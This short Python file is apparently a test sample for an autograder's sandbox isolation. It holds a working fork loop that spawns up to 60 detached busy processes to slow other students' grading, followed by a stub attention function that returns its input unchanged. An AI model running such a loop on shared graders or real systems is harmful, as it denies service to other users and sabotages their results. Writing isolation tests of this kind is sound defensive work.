"""Attack: 60 busy processes, each in its own session, to slow every other student's
grading (timeouts cost them points); per-sandbox cgroups (an equal CPU weight, a pids
limit) and CPU-second time limits keep a classmate's grade unchanged."""

import os

for _ in range(60):
    try:
        pid = os.fork()
    except OSError:
        break  # the pids limit
    if pid == 0:
        os.setsid()
        while True:
            pass


def scaled_dot_product_attention(q, k, v, mask=None):
    return q, None
